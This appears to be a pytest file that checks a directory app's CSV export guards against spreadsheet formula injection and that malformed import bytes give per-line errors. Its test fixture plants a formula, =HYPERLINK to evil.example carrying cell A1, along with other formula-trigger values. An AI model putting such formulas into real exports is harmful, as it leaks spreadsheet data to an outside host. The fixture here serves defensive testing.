"""The CSV edges: no formulas in exports (OWASP CSV injection), no 500 on odd bytes."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.directory.conftest import ADMIN
from tests.directory.test_directory_import_export import upload

ON_THE_APP_LOOP = pytest.mark.asyncio(loop_scope="session")

# What a spreadsheet takes for the start of a formula (OWASP "CSV injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

PLANTED = {
    "name": '=HYPERLINK("https://evil.example/?"&A1;"Klick")',
    "district": "+49 5321 704-0",
    "street": "-Markt 1",
    "coordinating_organisation": "@SUMME(1+1)",
    "municipality": "'Apostroph",
}


@pytest.mark.unit
@given(st.text())
def test_a_protected_cell_never_starts_a_formula_and_reads_back_unchanged(text: str) -> None:
    from lobu.shared.spreadsheet_csv import protect_cell, read_cell

    protected = protect_cell(text)
    assert not protected.startswith(FORMULA_TRIGGERS)
    assert read_cell(protected) == text


@pytest.mark.integration
@ON_THE_APP_LOOP
async def test_the_export_neutralises_formulas_and_imports_again_unchanged(
    client: httpx.AsyncClient,
) -> None:
    body: dict[str, Any] = {
        **PLANTED, "state": "NI", "postal_code": "38640", "city": "Goslar",
        "contacts": [{"name": "=2+5 Eva", "email": "eva@example.org",
                      "phone": "+49 5321 704"}],
    }  # fmt: skip
    created = await client.post("/alliances", json=body, headers=ADMIN)
    assert created.status_code == 201, created.text

    export = await client.get("/alliances/export.csv", headers=ADMIN)
    text = export.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    again = await upload(client, export.content, dry_run=False)

    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []
    assert "'=HYPERLINK" in text
    assert "'+49 5321 704-0" in text
    assert "[+49 5321 704]" in text  # the phone stays readable, inside its contact
    assert again.status_code == 200, again.text
    assert (again.json()["unchanged"], again.json()["errors"]) == (1, [])
    private = (await client.get(f"/alliances/{created.json()['id']}/private", headers=ADMIN)).json()
    assert {name: private[name] for name in PLANTED} == PLANTED
    assert private["contacts"][0]["name"] == body["contacts"][0]["name"]


HEADER = "name;land;plz;ort;auszeichnungen;breitengrad;laengengrad"


@pytest.mark.integration
@ON_THE_APP_LOOP
async def test_odd_characters_are_per_line_errors_never_a_500(client: httpx.AsyncClient) -> None:
    lines = [
        "Bündnis Hochzwei;NI;38640;Goslar;ausgezeichnet-in-die-zukunft:²;;",
        "Bündnis Arabisch;NI;38640;Goslar;ausgezeichnet-in-die-zukunft:٢٠١٩;;",
        "Bündnis\x00Null;NI;38640;Goslar;;;",
        "Bündnis Breit;NI;38640;Goslar;;５１,９;１０,４",
        "Bündnis Unendlich;NI;38640;Goslar;;nan;inf",
    ]
    content = ("\r\n".join([HEADER, *lines]) + "\r\n").encode()
    content += "Bündnis Latin;NI;38640;Köln;;;\r\n".encode("latin-1")
    content += "Bündnis Gut;NI;38640;Goslar;;;\r\n".encode()

    response = await upload(client, content, dry_run=True)

    assert response.status_code == 200, response.text
    report = response.json()
    assert report["created"] == 1  # only the last line is fine
    assert {error["line"] for error in report["errors"]} == {2, 3, 4, 5, 6, 7}
    by_line = {error["line"]: error for error in report["errors"]}
    assert by_line[4]["field"] == "name"
    assert by_line[7]["field"] == "ort"
    assert "UTF-8" in by_line[7]["message"]


@pytest.mark.integration
@ON_THE_APP_LOOP
async def test_a_header_with_undecodable_bytes_is_refused_with_a_readable_reason(
    client: httpx.AsyncClient,
) -> None:
    content = "name;land;plz;ort;straße\r\nBündnis;NI;38640;Goslar;Markt 1\r\n".encode("latin-1")

    response = await upload(client, content, dry_run=True)

    assert response.status_code == 422
    assert response.json()["code"] == "invalid_import_file"
    assert "UTF-8" in response.json()["detail"]
